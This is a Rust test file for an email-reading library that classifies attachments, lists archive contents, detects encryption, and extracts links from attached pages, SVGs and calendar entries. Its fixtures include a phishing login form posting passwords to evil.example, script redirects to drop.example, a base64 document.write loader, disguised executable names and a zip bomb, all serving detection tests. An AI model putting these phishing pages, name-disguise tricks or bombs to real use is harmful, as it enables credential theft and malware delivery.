//! What is attached: what it is, what it holds, and where its links go.

use reading::{Attachment, AttachmentKind, Limits, LinkKind, LinkSource, Message, Trouble, read};

/// A mail with one file attached.
fn mail(name: &str, media: &str, bytes: &[u8]) -> Vec<u8> {
    let mut raw = format!(
        "From: a@b.example\nSubject: x\nContent-Type: multipart/mixed; boundary=b\n\n\
         --b\nContent-Type: text/plain\n\nsee\n\
         --b\nContent-Type: {media}\nContent-Disposition: attachment; filename=\"{name}\"\n\
         Content-Transfer-Encoding: base64\n\n"
    )
    .into_bytes();
    for line in base64(bytes).as_bytes().chunks(76) {
        raw.extend_from_slice(line);
        raw.push(b'\n');
    }
    raw.extend_from_slice(b"--b--\n");
    raw
}

fn with(name: &str, media: &str, bytes: &[u8]) -> Message {
    read(&mail(name, media, bytes), &Limits::default())
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::with_capacity(bytes.len() * 4 / 3 + 4);
    for three in bytes.chunks(3) {
        let bits = three
            .iter()
            .fold(0_u32, |bits, b| bits << 8 | u32::from(*b))
            << (8 * (3 - three.len()));
        for nth in 0..4 {
            if nth > three.len() {
                text.push('=');
            } else {
                text.push(char::from(DIGITS[(bits >> (18 - 6 * nth) & 63) as usize]));
            }
        }
    }
    text
}

/// A zip archive of stored or packed files; `flags` go into every record.
fn zip(files: &[(&str, &[u8])], is_packed: bool, flags: u16) -> Vec<u8> {
    let mut archive = Vec::new();
    let mut directory = Vec::new();
    for (name, bytes) in files {
        let data = if is_packed {
            miniz_oxide::deflate::compress_to_vec(bytes, 6)
        } else {
            bytes.to_vec()
        };
        let offset = archive.len() as u32;
        let mut common = Vec::new();
        common.extend(20_u16.to_le_bytes());
        common.extend(flags.to_le_bytes());
        common.extend((if is_packed { 8_u16 } else { 0 }).to_le_bytes());
        common.extend([0; 8]);
        common.extend((data.len() as u32).to_le_bytes());
        common.extend((bytes.len() as u32).to_le_bytes());
        common.extend((name.len() as u16).to_le_bytes());
        common.extend([0; 2]);
        archive.extend(b"PK\x03\x04");
        archive.extend(&common);
        archive.extend(name.as_bytes());
        archive.extend(&data);
        directory.extend(b"PK\x01\x02\x14\0");
        directory.extend(&common);
        directory.extend([0; 10]);
        directory.extend(offset.to_le_bytes());
        directory.extend(name.as_bytes());
    }
    let (start, size) = (archive.len() as u32, directory.len() as u32);
    archive.extend(&directory);
    archive.extend(b"PK\x05\x06\0\0\0\0");
    archive.extend((files.len() as u16).to_le_bytes());
    archive.extend((files.len() as u16).to_le_bytes());
    archive.extend(size.to_le_bytes());
    archive.extend(start.to_le_bytes());
    archive.extend([0; 2]);
    archive
}

/// A tape archive of one file.
fn tar(name: &str, bytes: &[u8]) -> Vec<u8> {
    let mut header = vec![0; 512];
    header[..name.len()].copy_from_slice(name.as_bytes());
    header[124..135].copy_from_slice(format!("{:011o}", bytes.len()).as_bytes());
    header[156] = b'0';
    header[257..262].copy_from_slice(b"ustar");
    header.extend_from_slice(bytes);
    header.resize(header.len().div_ceil(512) * 512 + 1024, 0);
    header
}

/// A gzip member with a file name.
fn gzip(name: &str, bytes: &[u8]) -> Vec<u8> {
    let mut member = b"\x1f\x8b\x08\x08\0\0\0\0\0\xff".to_vec();
    member.extend(name.as_bytes());
    member.push(0);
    member.extend(miniz_oxide::deflate::compress_to_vec(bytes, 6));
    member.extend([0; 8]);
    member
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

fn only(message: &Message) -> &Attachment {
    assert_eq!(message.attachments.len(), 1);
    &message.attachments[0]
}

const PAGE: &str = "<!-- saved --><html><body><h1>ショップ ログイン</h1>\
    <form action='https://evil.example/post'><input type=password name=p></form>\
    <script>var u = 'https:\\/\\/drop.example\\/x';</script></body></html>";

#[test]
fn an_attachment_is_what_its_name_its_type_and_its_bytes_say() {
    struct Case {
        name: &'static str,
        media: &'static str,
        bytes: Vec<u8>,
        kind: AttachmentKind,
    }
    let case = |name, media, bytes: &[u8], kind| Case {
        name,
        media,
        bytes: bytes.to_vec(),
        kind,
    };
    let octets = "application/octet-stream";
    let compound = |stream: &str| {
        let mut bytes = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
        bytes.resize(512, 0);
        bytes.extend(wide(stream));
        bytes
    };
    let disk = {
        let mut bytes = vec![0; 0x8000];
        bytes.extend(b"\x01CD001\x01");
        bytes
    };
    let office = |macros: &'static str| {
        zip(
            &[
                ("[Content_Types].xml", b"<x/>"),
                ("word/document.xml", b"<x/>"),
                (macros, b"x"),
            ],
            true,
            0,
        )
    };
    for case in [
        case(
            "a.pdf",
            "application/pdf",
            b"%PDF-1.7\n",
            AttachmentKind::Document,
        ),
        case(
            "a.pdf",
            "application/pdf",
            PAGE.as_bytes(),
            AttachmentKind::Page,
        ),
        case(
            "a.pdf.exe",
            "application/pdf",
            b"x",
            AttachmentKind::Program,
        ),
        case(
            "a.pdf",
            "application/pdf",
            b"MZ\x90",
            AttachmentKind::Program,
        ),
        case("a\u{202e}fdp.exe", octets, b"x", AttachmentKind::Program),
        case("a.pdf", octets, &disk, AttachmentKind::Program),
        case(
            "photo.jpg",
            "image/jpeg",
            b"\x4c\0\0\0\x01\x14\x02\0",
            AttachmentKind::Program,
        ),
        case(
            "shop.com",
            "image/png",
            b"\x89PNG\r\n\x1a\n",
            AttachmentKind::Picture,
        ),
        case("shop.com", octets, b"\xeb\x03", AttachmentKind::Program),
        case(
            "note",
            octets,
            b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3",
            AttachmentKind::Program,
        ),
        case(
            "a.txt",
            "text/plain",
            b"[InternetShortcut]\r\nURL=x",
            AttachmentKind::Program,
        ),
        case("a.js", "text/plain", b"x", AttachmentKind::Program),
        case("a.mobileconfig", octets, b"x", AttachmentKind::Profile),
        case(
            "a",
            "application/x-apple-aspen-config",
            b"x",
            AttachmentKind::Profile,
        ),
        case(
            "a.xml",
            "text/xml",
            b"<?xml?><plist><key>PayloadType</key><key>PayloadIdentifier</key>",
            AttachmentKind::Profile,
        ),
        case("a.docm", octets, b"x", AttachmentKind::Macros),
        case(
            "a.docx",
            octets,
            &office("word/vbaProject.bin"),
            AttachmentKind::Macros,
        ),
        case(
            "a.docx",
            octets,
            &office("word/styles.xml"),
            AttachmentKind::Document,
        ),
        case(
            "a.xls",
            octets,
            &compound("_VBA_PROJECT"),
            AttachmentKind::Macros,
        ),
        case(
            "a.xls",
            octets,
            &compound("Workbook"),
            AttachmentKind::Document,
        ),
        case(
            "a.doc",
            octets,
            &compound("__substg1.0_0037001F"),
            AttachmentKind::Message,
        ),
        case("a.svg", "image/svg+xml", b"<svg/>", AttachmentKind::Page),
        case(
            "a.png",
            "image/png",
            b"<?xml version='1.0'?><svg onload='x'/>",
            AttachmentKind::Page,
        ),
        case(
            "a.dat",
            octets,
            &wide("\u{feff}<html><body>x"),
            AttachmentKind::Page,
        ),
        case(
            "a.zip",
            octets,
            &zip(&[("a", b"x")], true, 0),
            AttachmentKind::Archive,
        ),
        case(
            "a.pdf",
            "application/pdf",
            &zip(&[("a", b"x")], false, 0),
            AttachmentKind::Archive,
        ),
        case(
            "a.jar",
            octets,
            &zip(&[("META-INF/MANIFEST.MF", b"x")], true, 0),
            AttachmentKind::Program,
        ),
        case(
            "a.ics",
            octets,
            b"BEGIN:VCALENDAR\nEND:VCALENDAR",
            AttachmentKind::Calendar,
        ),
        case(
            "a.patch",
            "text/x-patch",
            b"--- a/x.html\n+++ b/x.html\n+<html>\n",
            AttachmentKind::Document,
        ),
        case(
            "a.xml",
            "text/xml",
            b"<?xml version='1.0'?><feed/>",
            AttachmentKind::Document,
        ),
        case(
            "signature.asc",
            "application/pgp-signature",
            b"-----BEGIN PGP SIGNATURE-----",
            AttachmentKind::Signature,
        ),
        case(
            "logo.png",
            "image/png",
            b"\x89PNG\r\n\x1a\n",
            AttachmentKind::Picture,
        ),
        case("a", octets, b"x", AttachmentKind::Other),
    ] {
        let message = with(case.name, case.media, &case.bytes);
        assert_eq!(
            only(&message).kind,
            case.kind,
            "{} {}",
            case.name,
            case.media
        );
        assert_eq!(AttachmentKind::of_name("x.ps1"), AttachmentKind::Program);
    }
    // Two names: the worse one counts, whichever field it stands in.
    let raw = "From: a@b.example\nContent-Type: application/octet-stream; name=\"a.exe\"\n\
        Content-Disposition: attachment; filename=\"a.pdf\"\n\nx";
    let message = read(raw.as_bytes(), &Limits::default());
    assert_eq!(only(&message).kind, AttachmentKind::Program);
    assert_eq!(only(&message).name, "a.pdf");
    // A name so long that its end would be cut off.
    let message = with(
        &format!("invoice.pdf{}.exe", " ".repeat(3_000)),
        octets,
        b"x",
    );
    assert_eq!(only(&message).kind, AttachmentKind::Program);
    assert!(only(&message).name.len() <= 1024 && only(&message).name.ends_with(".exe"));
}

#[test]
fn an_archive_names_what_it_holds() {
    let inner = zip(&[("請求書.lnk", b"x")], true, 0);
    for is_packed in [false, true] {
        let archive = zip(
            &[("read me.txt", b"hello"), ("in/inner.zip", &inner)],
            is_packed,
            0,
        );
        let message = with("a.zip", "application/zip", &archive);
        assert_eq!(
            only(&message).contents,
            ["read me.txt", "in/inner.zip", "in/inner.zip/請求書.lnk"]
        );
        assert!(!only(&message).is_encrypted && !only(&message).is_cut);
        // A broken directory hides nothing.
        let cut = &archive[..archive.len() - 30];
        assert_eq!(
            only(&with("a.zip", "application/zip", cut)).contents.len(),
            3
        );
    }
    // Two archives joined: one program opens the first, another the last.
    let joined = [
        zip(&[("a.txt", b"x")], true, 0),
        zip(&[("b.exe", b"x")], true, 0),
    ]
    .concat();
    let message = with("a.zip", "application/zip", &joined);
    let mut names = only(&message).contents.clone();
    names.sort();
    assert_eq!(names, ["a.txt", "b.exe"]);
    // Shift_JIS, as old programs write it.
    let mut old = zip(&[("XXXXXX.txt", b"x")], false, 0);
    while let Some(at) = old.windows(6).position(|w| w == b"XXXXXX") {
        old[at..at + 6].copy_from_slice(b"\x90\xbf\x8b\x81\x8f\x91");
    }
    assert_eq!(
        only(&with("a.zip", "application/zip", &old)).contents,
        ["請求書.txt"]
    );

    let tape = tar("a/b.vbs", b"x");
    assert_eq!(
        only(&with("a.tar", "application/x-tar", &tape)).contents,
        ["a/b.vbs"]
    );
    let packed = gzip("a.tar", &tape);
    assert_eq!(
        only(&with("a.tgz", "application/gzip", &packed)).contents,
        ["a/b.vbs"]
    );
    let single = gzip("note.txt", b"hello");
    assert_eq!(
        only(&with("note.txt.gz", "application/gzip", &single)).contents,
        ["note.txt"]
    );

    let mut rar = b"Rar!\x1a\x07\0".to_vec();
    rar.extend(b"\0\0\x73\0\0\x0d\0\0\0\0\0\0\0");
    rar.extend(
        b"\0\0\x74\x04\x80\x25\0\x03\0\0\0\x03\0\0\0\0\0\0\0\0\0\0\0\0\x1d\x30\x05\0\0\0\0\0b.exe",
    );
    rar.extend(b"xyz");
    let message = with("a.rar", "application/vnd.rar", &rar);
    assert_eq!(only(&message).contents, ["b.exe"]);
    assert!(only(&message).is_encrypted);

    let mut newer = b"Rar!\x1a\x07\x01\0".to_vec();
    // size 13, type 2, flags 2, data 3, file flags 0, unpacked 3, attributes 0, method 0, system 0, name
    newer.extend(b"\0\0\0\0\x0e\x02\x02\x03\x00\x03\x00\x00\x00\x05c.lnkxyz");
    let message = with("a.rar", "application/vnd.rar", &newer);
    assert_eq!(only(&message).contents, ["c.lnk"]);
    assert!(!only(&message).is_encrypted);

    let mut seven = b"7z\xbc\xaf\x27\x1c\0\x04\0\0\0\0".to_vec();
    let name = wide("d.exe\0");
    let mut header = vec![1, 5, 1, 0x11, name.len() as u8 + 1, 0];
    header.extend(name);
    header.extend([0, 0]);
    seven.extend(0_u64.to_le_bytes());
    seven.extend((header.len() as u64).to_le_bytes());
    seven.extend([0; 4]);
    seven.extend(header);
    assert_eq!(
        only(&with("a.7z", "application/x-7z-compressed", &seven)).contents,
        ["d.exe"]
    );
}

#[test]
fn a_locked_attachment_is_said_to_be_locked() {
    let mut compound = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".to_vec();
    compound.resize(512, 0);
    compound.extend(wide("EncryptedPackage"));
    let mut seven = b"7z\xbc\xaf\x27\x1c\0\x04\0\0\0\0".to_vec();
    seven.extend(0_u64.to_le_bytes());
    seven.extend(8_u64.to_le_bytes());
    seven.extend([0; 4]);
    seven.extend(b"\x17\x06\x24\x06\xf1\x07\x01\x00");
    for (name, bytes, is_encrypted) in [
        ("a.zip", zip(&[("a.exe", b"x")], false, 1), true),
        ("a.zip", zip(&[("a.exe", b"x")], false, 0), false),
        ("a.7z", seven, true),
        (
            "a.rar",
            b"Rar!\x1a\x07\0\0\0\x73\x80\0\x0d\0\0\0\0\0\0\0".to_vec(),
            true,
        ),
        (
            "a.rar",
            b"Rar!\x1a\x07\x01\0\0\0\0\0\x03\x04\0\0".to_vec(),
            true,
        ),
        ("a.xlsx", compound, true),
        (
            "a.pdf",
            b"%PDF-1.7\ntrailer <</Root 1 0 R /Encrypt 5 0 R>>".to_vec(),
            true,
        ),
        (
            "a.pdf",
            b"%PDF-1.7\n<</EncryptMetadata false>>".to_vec(),
            false,
        ),
    ] {
        assert_eq!(
            only(&with(name, "application/octet-stream", &bytes)).is_encrypted,
            is_encrypted,
            "{name}"
        );
    }
}

#[test]
fn an_attached_page_is_read_with_what_its_scripts_say() {
    let archive = zip(&[("お知らせ.html", PAGE.as_bytes())], true, 0);
    for (name, media, bytes) in [
        ("a.html", "text/html", PAGE.as_bytes()),
        ("a.pdf", "application/pdf", PAGE.as_bytes()),
        ("a.zip", "application/zip", archive.as_slice()),
    ] {
        let message = with(name, media, bytes);
        let links: Vec<(LinkKind, LinkSource, &str)> = message
            .links
            .iter()
            .map(|l| (l.kind, l.source, l.target.as_str()))
            .collect();
        assert_eq!(
            links,
            [
                (
                    LinkKind::Form,
                    LinkSource::Page,
                    "https://evil.example/post"
                ),
                (LinkKind::Plain, LinkSource::Page, "https://drop.example/x"),
            ],
            "{name}"
        );
        assert!(message.links.iter().all(|l| l.part == [2]));
        assert_eq!(message.documents.len(), 1, "{name}");
        assert_eq!(message.documents[0].text, "ショップ ログイン");
        let markup = &only(&message).markup;
        assert_eq!(
            (markup.forms, markup.password_fields, markup.scripts),
            (1, 1, 1),
            "{name}"
        );
        assert_eq!(message.texts.len(), 1);
    }
    // A script that writes the page, one layer deep.
    let written = format!(
        "<script>document.write(atob('{}'))</script>",
        base64(PAGE.as_bytes())
    );
    let message = with("a.htm", "text/html", written.as_bytes());
    assert_eq!(message.documents[0].text, "ショップ ログイン");
    assert_eq!(only(&message).markup.password_fields, 1);
    let hosts: Vec<&str> = message
        .links
        .iter()
        .filter_map(|l| l.host.as_deref())
        .collect();
    assert!(
        hosts.contains(&"evil.example") && hosts.contains(&"drop.example"),
        "{hosts:?}"
    );
    // A picture with a script and a link.
    let svg = "<?xml version='1.0'?><svg xmlns:xlink='x'><a xlink:href='https://evil.example/s'><text>Open</text></a>\
        <script><![CDATA[ location='https://drop.example/s' ]]></script></svg>";
    let message = with("a.svg", "image/svg+xml", svg.as_bytes());
    let hosts: Vec<&str> = message
        .links
        .iter()
        .filter_map(|l| l.host.as_deref())
        .collect();
    assert_eq!(hosts, ["evil.example", "drop.example"]);
    assert_eq!(message.links[0].label, "Open");
    // A page saved in the form of a mail.
    let saved = format!(
        "From: <Saved by a browser>\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=s\n\n\
         --s\nContent-Type: text/html\n\n{PAGE}\n--s--\n"
    );
    let message = with("a.mht", "application/octet-stream", saved.as_bytes());
    assert_eq!(only(&message).kind, AttachmentKind::Page);
    assert_eq!(message.links.len(), 2);
    assert_eq!(only(&message).markup.password_fields, 1);
}

#[test]
fn a_calendar_entry_is_read_wherever_it_stands() {
    let entry = "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:支払い\r\nURL:https://evil.example/c\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
    let inline =
        format!("From: a@b.example\nContent-Type: text/calendar; charset=utf-8\n\n{entry}");
    let message = read(inline.as_bytes(), &Limits::default());
    assert_eq!(message.texts[0].seen, "支払い");
    assert_eq!(message.links.len(), 1);
    assert_eq!(message.links[0].source, LinkSource::Calendar);
    for (name, bytes) in [
        ("a.ics", entry.as_bytes().to_vec()),
        ("a.zip", zip(&[("a.ics", entry.as_bytes())], true, 0)),
    ] {
        let message = with(name, "application/octet-stream", &bytes);
        assert_eq!(message.documents[0].text, "支払い", "{name}");
        assert_eq!(message.links[0].source, LinkSource::Calendar, "{name}");
    }
}

#[test]
fn what_the_markup_of_a_body_can_do_is_counted() {
    let html = "<div style='display:none'>Preview</div><p>Seen</p><span style='font-size:0'>later</span>\
        <meta http-equiv=Refresh content='0; url=https://r.example/'>\
        <form action='https://f.example/'><input type='Password '><button formaction='https://g.example/'>Go</button></form>\
        <script src='https://s.example/a.js'></script><script type='application/ld+json'>{\"u\":\"https://data.example\"}</script>\
        <body onload='x()'><iframe src='https://i.example/' srcdoc=\"<a href='https://d.example/'>Open</a>\"></iframe>\
        <map><area href='https://area.example/' alt=Map></map>\
        <a href='data:text/html;base64,PGEgaHJlZj0iaHR0cHM6Ly9pbi5leGFtcGxlLyI+eDwvYT4='>Data</a>\
        <a href=' javascript:alert(1)'>Js</a><img srcset='https://p.example/1.png 1x, https://q.example/2.png 2x'>\
        <div style=\"background:url('https://bg.example/b.png')\">";
    let raw = format!("From: a@b.example\nContent-Type: text/html\n\n{html}");
    let message = read(raw.as_bytes(), &Limits::default());
    let text = &message.texts[0];
    assert_eq!(text.preheader, "Preview");
    assert_eq!(text.hidden.replace('\n', " "), "Preview later");
    let markup = &text.markup;
    assert_eq!(
        (
            markup.forms,
            markup.password_fields,
            markup.scripts,
            markup.frames
        ),
        (1, 1, 2, 1)
    );
    assert!(markup.has_refresh);
    let of = |kind: LinkKind| -> Vec<&str> {
        message
            .links
            .iter()
            .filter(|l| l.kind == kind)
            .map(|l| l.host.as_deref().unwrap_or(&l.scheme))
            .collect()
    };
    assert_eq!(of(LinkKind::Refresh), ["r.example"]);
    assert_eq!(of(LinkKind::Form), ["f.example", "g.example"]);
    assert_eq!(
        of(LinkKind::Anchor),
        [
            "area.example",
            "data",
            "javascript",
            "d.example",
            "in.example"
        ]
    );
    assert_eq!(
        of(LinkKind::Resource),
        [
            "s.example",
            "i.example",
            "p.example",
            "q.example",
            "bg.example"
        ]
    );
    assert!(message.links.iter().all(|l| l.source == LinkSource::Body));
    assert!(
        of(LinkKind::Plain).is_empty(),
        "mail programs run no script"
    );
}

#[test]
fn mails_inside_mails_are_kept_to_a_limit() {
    let inner = "From: c@d.example\nSubject: inner\n\nhello";
    let eml = zip(&[("mail.eml", inner.as_bytes())], true, 0);
    let message = with("a.zip", "application/zip", &eml);
    assert_eq!(message.enclosed, [inner.as_bytes()]);
    let mut raw = inner.to_owned();
    let mut sizes = Vec::new();
    for level in 0..40 {
        raw = format!("From: a@b.example\nSubject: {level}\nContent-Type: message/rfc822\n\n{raw}");
        let message = read(raw.as_bytes(), &Limits::default());
        sizes.push(message.enclosed.len());
        assert_eq!(
            message.troubles.contains(&Trouble::PartsCut),
            level >= 5,
            "{level}"
        );
        let lengths: Vec<usize> = message.enclosed.iter().map(Vec::len).collect();
        assert!(
            lengths.is_sorted_by(|a, b| a > b),
            "outermost first: {lengths:?}"
        );
    }
    assert_eq!(&sizes[..6], [1, 2, 3, 4, 5, 5]);
    assert!(sizes.iter().all(|&count| count <= 5));
}

#[test]
fn a_bomb_costs_nothing() {
    let zeros = vec![b'a'; 6 << 20];
    let bomb = zip(
        &[("a.html", &zeros), ("b.html", &zeros), ("c.zip", &zeros)],
        true,
        0,
    );
    assert!(bomb.len() < 60_000);
    let message = with("a.zip", "application/zip", &bomb);
    assert_eq!(only(&message).contents.len(), 3);
    assert!(
        message
            .documents
            .iter()
            .map(|d| d.text.len())
            .sum::<usize>()
            < 4 << 20
    );
    let names: Vec<String> = (0..3_000).map(|n| format!("{n}.html")).collect();
    let files: Vec<(&str, &[u8])> = names
        .iter()
        .map(|n| (n.as_str(), PAGE.as_bytes()))
        .collect();
    let message = with("a.zip", "application/zip", &zip(&files, true, 0));
    assert_eq!(only(&message).contents.len(), 200);
    assert!(only(&message).is_cut);
    let message = with("a.gz", "application/gzip", &gzip("x", &zeros));
    assert!(only(&message).is_cut);
}
